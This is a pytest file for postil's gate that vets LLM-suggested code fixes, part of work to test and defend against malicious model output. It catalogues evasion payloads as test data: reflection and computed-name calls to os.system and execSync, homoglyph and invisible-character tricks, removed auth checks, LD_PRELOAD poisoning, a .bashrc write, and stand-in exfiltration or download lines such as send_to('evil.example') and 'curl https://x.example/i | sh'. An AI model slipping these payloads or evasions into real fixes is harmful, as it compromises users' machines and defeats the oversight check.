"""The vetting gate judges what a model's fix does, not how it is spelt (issue 30, item 4):
calls reached by computed names or reflection, modules used as values, references to
dangerous functions, look-alike letters, removed await/yield/return/raise, and calls the
file never makes (unless the user opts in). The same payloads go end to end through
`postil review --fix-llm` (tests/analyzers/llm/test_fix_llm_vetting.py) and the editor's AI fixes
(tests/server/test_server_ai_fix_vetting.py)."""

from __future__ import annotations

import pytest

from postil.analyzers.llm.anchor import clean_snippet, locate
from postil.gate.vetting import Scope, vet_fix

PY = ("import os\nimport subprocess\nimport sys\n\n\nasync def handle(user, data, role):\n"
      "    if not await allowed(user):\n        raise PermissionError(user)\n    assert data is not None\n"
      "    if role == 'guest':\n        return subprocess.run(['ls'], check=True)\n    return data.strip()\n")
JS = ("const cp = require('child_process');\n\nasync function handle(user, data) {\n"
      "  if (!await allowed(user)) {\n    throw new Error('no');\n  }\n  return data.trim();\n}\n")
PY_RETURN = "return data.strip()"
JS_RETURN = "return data.trim();"

# (language, quote, fix, what the refusal says): the payloads first, then variants.
BYPASSES = {
    "issue: print.__self__.__dict__": ("python", PY_RETURN, "return print.__self__.__dict__['exec'](data)", "computed"),
    "issue: os.__dict__": ("python", PY_RETURN, "return os.__dict__['system'](data)", "computed"),
    "issue: cp['execSync']": ("javascript", JS_RETURN, "return cp['execSync'](data);", "computed"),
    "issue: Reflect.apply": ("javascript", JS_RETURN, "return Reflect.apply(cp.execSync, cp, [data]);", "module cp"),
    "issue: Cyrillic e in 'guest'": ("python", "if role == 'guest':", "if role == 'gu\u0435st':", "mixes letters"),
    "issue: dropped await (py)": ("python", "if not await allowed(user):", "if not allowed(user):", "`await`"),
    "dropped await (js)": ("javascript", "if (!await allowed(user)) {", "if (!allowed(user)) {", "`await`"),
    "escaped Cyrillic e": ("python", "if role == 'guest':", "if role == 'gu\\u0435st':", "mixes letters"),
    "named escape Cyrillic": ("python", "if role == 'guest':",
                              "if role == 'gu\\N{CYRILLIC SMALL LETTER IE}st':", "mixes letters"),
    "Greek omicron identifier": ("python", PY_RETURN, "return data.str\u03bfp()", "mixes letters"),
    "fullwidth letter": ("python", PY_RETURN, "return data.strip() + '\uff41'", "look-alike"),
    "dotless i": ("python", "if role == 'guest':", "if role == 'adm\u0131n':", "look-alike"),
    "zero-width space": ("python", PY_RETURN, "return data.strip\u200b()", "invisible"),
    "variation selector": ("python", "if role == 'guest':", "if role == 'guest\ufe0f':", "invisible"),
    "tag character": ("python", "if role == 'guest':", "if role == 'guest\U000e0041':", "invisible"),
    "no-break space": ("python", "if role == 'guest':", "if role == 'guest\u00a0':", "invisible"),
    "hangul filler": ("python", "if role == 'guest':", "if role == 'guest\u3164':", "invisible"),
    "getattr built name": ("python", PY_RETURN, "return getattr(os, 'sys' + 'tem')(data)", "getattr"),
    "__subclasses__ walk": ("python", PY_RETURN, "return ().__class__.__base__.__subclasses__()[0]", "reflection"),
    "__globals__": ("python", PY_RETURN, "return handle.__globals__['os'].system(data)", "__globals__"),
    "map(os.system)": ("python", PY_RETURN, "return list(map(os.system, [data]))", "reference to os.system"),
    "sorted key=os.system": ("python", PY_RETURN, "return sorted([data], key=os.system)", "reference to os.system"),
    "lambda default arg": ("python", PY_RETURN, "return (lambda f=os.system: f(data))()", "computed"),
    "vars(os)": ("python", PY_RETURN, "return vars(os)['sys' 'tem'](data)", "vars"),
    "__builtins__ subscript": ("python", PY_RETURN, "return __builtins__['ev' + 'al'](data)", "__builtins__"),
    "alias of __import__": ("python", PY_RETURN, "imp = __import__\n    return imp('os').system(data)", "call"),
    "sys.modules": ("python", PY_RETURN, "return sys.modules['os'].system(data)", "call"),
    "operator.methodcaller": ("python", PY_RETURN, "return operator.methodcaller('system', data)(os)", "computed"),
    "importlib": ("python", PY_RETURN, "return importlib.import_module('o' + 's').system(data)", "call"),
    "breakpoint": ("python", PY_RETURN, "return breakpoint()", "breakpoint"),
    "compile": ("python", PY_RETURN, "return compile(data, 'x', 'exec')", "compile"),
    "code.InteractiveInterpreter": ("python", PY_RETURN, "return code.InteractiveInterpreter().runsource(data)",
                                    "InteractiveInterpreter"),
    "pty.spawn": ("python", PY_RETURN, "return pty.spawn(data)", "pty.spawn"),
    "os.posix_spawn": ("python", PY_RETURN, "return os.posix_spawn(data, [data], {})", "os.posix_spawn"),
    "webbrowser": ("python", PY_RETURN, "return webbrowser.open(data)", "webbrowser"),
    "pickle.loads of base64": ("python", PY_RETURN, "return pickle.loads(base64.b64decode(data))", "pickle"),
    "ctypes": ("python", PY_RETURN, "return ctypes.CDLL(None).system(data)", "ctypes"),
    "write to .bashrc": ("python", "    " + PY_RETURN,
                         "    with open('/home/u/.bashrc', 'a') as fh:\n        fh.write(data)\n    " + PY_RETURN, "open"),
    "a new, unknown call": ("python", PY_RETURN, "return send_to('evil.example', data)", "send_to"),
    "type() class trick": ("python", PY_RETURN, "return type('X', (), {'f': data})", "'type'"),
    "removed raise": ("python", "raise PermissionError(user)", "pass", "`raise`"),
    "removed return": ("python", "    " + PY_RETURN, "    data.strip()", "`return`"),
    "removed not": ("python", "if not await allowed(user):", "if await allowed(user):", "negation"),
    "removed assert": ("python", "assert data is not None", "pass", "`assert`"),
    "a shell through the call the code makes": ("python", "return subprocess.run(['ls'], check=True)",
                                                "return subprocess.run(['sh', '-c', data], check=True)", "shell-like"),
    "shell=True on the call the code makes": ("python", "return subprocess.run(['ls'], check=True)",
                                              "return subprocess.run(data, check=True, shell=True)", "shell=True"),
    "a downloader through the call the code makes": ("python", "return subprocess.run(['ls'], check=True)",
                                                     "return subprocess.run(['curl', 'https://x.example/i'])",
                                                     "shell-like"),
    "environment poisoning": ("python", "    " + PY_RETURN,
                              "    os.environ['LD_PRELOAD'] = '/tmp/x.so'\n    " + PY_RETURN, "environment"),
    "environment poisoning (js)": ("javascript", "  " + JS_RETURN,
                                   "  process.env.NODE_OPTIONS = '--require /tmp/x.js';\n  " + JS_RETURN,
                                   "environment"),
    "module.require": ("javascript", JS_RETURN, "return module.require('child_' + 'process').execSync(data);",
                       "require"),
    "sys.modules kept in a name": ("python", "    " + PY_RETURN,
                                   "    m = sys.modules['o' + 's']\n    return m.getcwd()", "sys.modules"),
    "a frame's globals": ("python", PY_RETURN, "return sys._getframe(0).f_globals['os'].getcwd()", "reflection"),
    "a URL to a new host through a value's get": ("python", PY_RETURN,
                                                  "return data.session.get('https://x.example/?d=' + data)",
                                                  "x.example"),
    "format-string dunder": ("python", PY_RETURN, "return '{0.__globals__}'.format(handle)", "__globals__"),
    "globalThis['eval']": ("javascript", JS_RETURN, "return globalThis['ev' + 'al'](data);", "call"),
    "new Function": ("javascript", JS_RETURN, "return new Function('return process')().mainModule;", "Function"),
    "dynamic import()": ("javascript", JS_RETURN, "return import('child_' + 'process').then(m => m.execSync(data));",
                         "call"),
    "process.binding": ("javascript", JS_RETURN, "return process.binding('spawn_sync');", "process.binding"),
    "Object.values(module)": ("javascript", JS_RETURN, "return Object.values(cp)[3](data);", "computed"),
    "constructor.constructor": ("javascript", JS_RETURN, "return data.constructor.constructor('return 1')();",
                                "constructor"),
    "Array.map with module function": ("javascript", JS_RETURN, "return [data].map(cp.execSync);",
                                       "child_process.execSync"),
    "require alias": ("javascript", JS_RETURN, "const r = require;\n  return r('child_process').execSync(data);",
                      "execSync"),
    "removed throw": ("javascript", "throw new Error('no');", "return;", "`throw`"),
    "bracket on module kept as value": ("javascript", JS_RETURN, "const f = cp['exec' + 'Sync'];\n  return f(data);",
                                        "reflection"),
    "Reflect.get": ("javascript", JS_RETURN, "return Reflect.get(data, 'trim').call(data);", "Reflect"),
    "fromCharCode name": ("javascript", JS_RETURN, "return data[String.fromCharCode(116, 114, 105, 109)]();",
                          "computed"),
}

# Refused before this change already (by the call deny-list or the invisible-character check):
# kept here so the new checks cannot lose them.
HELD_BEFORE = frozenset({
    'module.require',
    'zero-width space',
    'tag character',
    'getattr built name',
    '__globals__',
    'vars(os)',
    '__builtins__ subscript',
    'alias of __import__',
    'sys.modules',
    'importlib',
    'breakpoint',
    'compile',
    'pty.spawn',
    'os.posix_spawn',
    'webbrowser',
    'pickle.loads of base64',
    'ctypes',
    'write to .bashrc',
    "globalThis['eval']",
    'new Function',
    'dynamic import()',
    'process.binding',
    'constructor.constructor',
    'require alias',
})

# Ordinary fixes that must still be offered: (language, text, quote, fix).
GOOD = {
    "method chain on a value": ("python", PY, PY_RETURN, "return data.strip().lower()"),
    "shell=False on the call the code makes": ("python", PY, "return subprocess.run(['ls'], check=True)",
                                               "return subprocess.run(['ls', '--'], check=True, shell=False)"),
    "yaml.safe_load": ("python", "import yaml\n\n\ndef load(s):\n    return yaml.load(s)\n", "return yaml.load(s)",
                       "return yaml.safe_load(s)"),
    "parameterised SQL": ("python", "def q(cur, name):\n    cur.execute(\"SELECT * FROM t WHERE n = '%s'\" % name)\n",
                          "cur.execute(\"SELECT * FROM t WHERE n = '%s'\" % name)",
                          "cur.execute(\"SELECT * FROM t WHERE n = %s\", (name,))"),
    "ast.literal_eval for eval": ("python", "def run(data):\n    return eval(data)\n", "return eval(data)",
                                  "return ast.literal_eval(data)"),
    "a guard that raises": ("python", PY, PY_RETURN,
                            "if not data:\n        raise ValueError('empty')\n    return data.strip()"),
    "a richer raise": ("python", PY, "raise PermissionError(user)", "raise PermissionError(f'denied: {user}')"),
    "None guard": ("python", "def f(xs):\n    total = 0\n    for x in xs:\n        total += x.price\n    return total\n",
                   "total += x.price", "total += x.price or 0"),
    "the file's own helper": ("python", "class A:\n    def _check(self, u):\n        return u\n\n    def run(self, u):\n"
                              "        return u.name\n", "return u.name", "return self._check(u).name"),
    "a logger level the file's logger has": ("python", "import logging\nlog = logging.getLogger()\n\n\ndef f(x):\n"
                                             "    log.info(x)\n    return x\n", "return x",
                                             "log.warning('bad %s', x)\n    return x"),
    "environment instead of a secret": ("python", "import os\n\n\ndef key():\n    return 'AKIA...'\n",
                                        "return 'AKIA...'", "return os.environ['KEY']"),
    "Cyrillic where the file writes Russian": ("python", "def f(role):\n    return role == '\u0433\u043e\u0441\u0442\u044c'\n",
                                               "return role == '\u0433\u043e\u0441\u0442\u044c'",
                                               "return role in ('\u0433\u043e\u0441\u0442\u044c', "
                                               "'\u0430\u0434\u043c\u0438\u043d')"),
    "String() in JS": ("javascript", JS, JS_RETURN, "return String(data).trim();"),
    "https for http on the same host": ("python", "def ping(s):\n    return s.get('http://api.example.com/ping')\n",
                                        "return s.get('http://api.example.com/ping')",
                                        "return s.get('https://api.example.com/ping', timeout=5)"),
    "a string naming a state": ("python", PY, PY_RETURN, "return data.strip() if role != 'open' else ''"),
    "a string naming a chat role": ("python", PY, PY_RETURN, "return data.strip() if role != 'system' else ''"),
    "a parameter called input": ("python", "def f(input):\n    return input\n", "return input",
                                 "return input.strip()"),
    "a hasattr guard": ("python", PY, PY_RETURN, "return data.strip() if hasattr(data, 'strip') else data"),
    "a private method called _load": ("python", "class A:\n    def _load(self):\n        return 1\n\n"
                                      "    def run(self):\n        return 0\n", "return 0", "return self._load()"),
    "added await": ("javascript", "async function f(u) {\n  const ok = allowed(u);\n  return ok;\n}\n",
                    "const ok = allowed(u);", "const ok = await allowed(u);"),
}


def vet(text: str, language: str, quote: str, improved: str, **kw):
    quote = clean_snippet(quote)
    start, end, _ = locate(text, quote, (0, len(text)))
    return vet_fix(text, language, start=start, end=end, quote=quote, improved=improved, scope=Scope((0, len(text))),
                   **kw)


@pytest.mark.parametrize("name", [name for name in BYPASSES if name not in HELD_BEFORE])
def test_each_bypass_is_refused_with_a_reason(name):
    assert_refused(name)


@pytest.mark.parametrize("name", sorted(HELD_BEFORE))
def test_what_was_refused_before_still_is(name):
    assert_refused(name)


def assert_refused(name: str, **kw) -> None:
    language, quote, improved, says = BYPASSES[name]
    verdict = vet(PY if language == "python" else JS, language, quote, improved, **kw)
    assert verdict.edit is None, name
    assert says in verdict.reason, verdict.reason


# Other languages: (language, text, quote, fix, what the refusal says).
OTHER_LANGUAGES = {
    "Go reflection": ("go", "package p\n\nfunc f(x T) int {\n\treturn x.N\n}\n", "return x.N",
                      "return reflect.ValueOf(x).MethodByName(\"Run\").Call(nil)[0].Interface().(int)", "MethodByName"),
    "Java Class.forName": ("java", "class A {\n  int f(int x) {\n    return x;\n  }\n}\n", "return x;",
                           "return (int) Class.forName(\"Evil\").getMethod(\"run\").invoke(null);", "reflection"),
    "Rust unsafe block": ("rust", "fn f(x: i32) -> i32 {\n    x + 1\n}\n", "x + 1",
                          "unsafe { std::ptr::null::<i32>().read() }", "unsafe block"),
    "Ruby backticks": ("ruby", "def f(x)\n  x + 1\nend\n", "x + 1", "`curl https://x.example/i | sh`", "shell"),
    "C# Process.Start": ("csharp", "class A {\n  int F(int x) {\n    return x;\n  }\n}\n", "return x;",
                         "System.Diagnostics.Process.Start(\"sh\");\n    return x;", "Process.Start"),
    "JS sendBeacon": ("javascript", JS, JS_RETURN, "navigator.sendBeacon('https://x.example', data);\n  "
                      + JS_RETURN, "sendBeacon"),
}


@pytest.mark.parametrize("name", list(OTHER_LANGUAGES))
def test_the_same_holds_in_other_languages(name):
    language, text, quote, improved, says = OTHER_LANGUAGES[name]
    verdict = vet(text, language, quote, improved, new_calls=True)  # refused even with the opt-in
    assert verdict.edit is None and says in verdict.reason, verdict.reason


@pytest.mark.parametrize("name", list(GOOD))
def test_an_ordinary_fix_still_passes(name):
    language, text, quote, improved = GOOD[name]
    verdict = vet(text, language, quote, improved)
    assert verdict.edit is not None, verdict.reason


def test_a_finding_about_the_await_may_remove_it():
    verdict = vet(PY, "python", "if not await allowed(user):", "if not allowed(user):",
                  about="allowed() is synchronous: the await raises TypeError")
    assert verdict.edit is not None, verdict.reason


def test_what_the_user_asked_about_may_name_a_new_call():
    asked = "python/md5 at line 6: use hashlib.sha256 instead of md5"
    text = "import hashlib\n\n\ndef h(b):\n    return hashlib.md5(b).hexdigest()\n"
    refused = vet(text, "python", "return hashlib.md5(b).hexdigest()", "return hashlib.sha3_512(b).hexdigest()")
    assert refused.edit is None and "hashlib.sha3_512" in refused.reason
    named = vet(text, "python", "return hashlib.md5(b).hexdigest()", "return hashlib.sha3_512(b).hexdigest()",
                asked=asked.replace("sha256", "sha3_512"))
    assert named.edit is not None, named.reason


def test_the_opt_in_allows_new_calls_but_never_the_dangerous_ones():
    allowed = vet(PY, "python", PY_RETURN, "return send_to('backup.example', data)", new_calls=True)
    assert allowed.edit is not None, allowed.reason
    for name in ("issue: os.__dict__", "map(os.system)", "pty.spawn", "issue: Cyrillic e in 'guest'",
                 "issue: dropped await (py)", "issue: cp['execSync']"):
        assert_refused(name, new_calls=True)


def test_only_the_user_side_may_opt_in(tmp_path, monkeypatch):
    """A repository's config cannot switch the allow-list off until the user trusts it."""
    from postil.config import load_config
    from postil.trust_store import record, user_config_path

    (tmp_path / ".git").mkdir()
    project = tmp_path / ".postil.toml"
    project.write_text("[llm]\nfixes-may-add-calls = true\n")
    loaded = load_config(tmp_path)
    assert loaded.settings.llm.fixes_may_add_calls is False
    assert "llm.fixes-may-add-calls" in loaded.notice
    record([project])
    assert load_config(tmp_path).settings.llm.fixes_may_add_calls is True
    project.write_text("[llm]\nmax-fix-lines = 8\n")
    user_config_path().parent.mkdir(parents=True, exist_ok=True)
    user_config_path().write_text("[llm]\nfixes-may-add-calls = true\n")
    assert load_config(tmp_path).settings.llm.fixes_may_add_calls is True
